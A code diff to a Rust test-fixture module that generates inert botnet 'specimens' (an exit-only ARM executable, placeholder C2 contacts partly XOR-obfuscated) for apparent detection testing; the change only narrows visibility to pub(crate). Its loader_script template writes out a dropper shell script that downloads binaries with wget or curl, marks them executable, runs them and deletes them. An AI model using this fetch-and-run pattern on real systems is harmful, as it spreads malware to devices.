@@ -1,23 +1,23 @@
 //! Inert specimens, made here: they look like a bot's files and do nothing.
 
 /// The key with which half of the specimen's contacts are hidden.
-pub const XOR_KEY: u8 = 0x22;
+pub(crate) const XOR_KEY: u8 = 0x22;
 
 /// Contacts of a specimen: names and addresses of documentation ranges only.
-pub struct Contacts {
+pub(crate) struct Contacts {
     /// Names in clear text.
-    pub plain_names: Vec<String>,
+    pub(crate) plain_names: Vec<String>,
     /// Addresses in clear text.
-    pub plain_addresses: Vec<String>,
+    pub(crate) plain_addresses: Vec<String>,
     /// Names under [`XOR_KEY`].
-    pub hidden_names: Vec<String>,
+    pub(crate) hidden_names: Vec<String>,
     /// Addresses under [`XOR_KEY`].
-    pub hidden_addresses: Vec<String>,
+    pub(crate) hidden_addresses: Vec<String>,
 }
 
 impl Contacts {
     /// Contacts that no other run has: `mark` goes into the names, `host` into the addresses.
-    pub fn unique(mark: &str, host: u8) -> Self {
+    pub(crate) fn unique(mark: &str, host: u8) -> Self {
         Self {
             plain_names: vec![format!("cnc-{mark}.example"), format!("report-{mark}.example")],
             plain_addresses: vec![format!("192.0.2.{host}")],
@@ -27,19 +27,19 @@ impl Contacts {
     }
 
     /// All names.
-    pub fn names(&self) -> impl Iterator<Item = &String> {
+    pub(crate) fn names(&self) -> impl Iterator<Item = &String> {
         self.plain_names.iter().chain(&self.hidden_names)
     }
 
     /// All addresses.
-    pub fn addresses(&self) -> impl Iterator<Item = &String> {
+    pub(crate) fn addresses(&self) -> impl Iterator<Item = &String> {
         self.plain_addresses.iter().chain(&self.hidden_addresses)
     }
 }
 
 /// A 32-bit little-endian ARM executable whose only instructions are `exit(0)`, with a
 /// list of contacts in its data.
-pub fn elf_arm(contacts: &Contacts) -> Vec<u8> {
+pub(crate) fn elf_arm(contacts: &Contacts) -> Vec<u8> {
     const HEADERS: u32 = 52 + 32;
     const BASE: u32 = 0x1_0000;
     let mut body = Vec::new();
@@ -75,7 +75,7 @@ pub fn elf_arm(contacts: &Contacts) -> Vec<u8> {
 }
 
 /// A loader's script: fetches `names` from `base` one after the other and starts them.
-pub fn loader_script(base: &str, names: &[&str]) -> String {
+pub(crate) fn loader_script(base: &str, names: &[&str]) -> String {
     format!(
         "#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\nfor f in {}; do\n\
          wget {base}/$f -O $f || curl -o $f {base}/$f\nchmod 777 $f; ./$f telnet.$f; rm -f $f\ndone\n",
